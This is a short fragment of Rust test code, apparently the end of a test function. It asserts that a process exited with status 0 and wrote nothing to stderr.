    assert_eq!((ran.status, ran.stderr.as_str()), (0, ""));
}
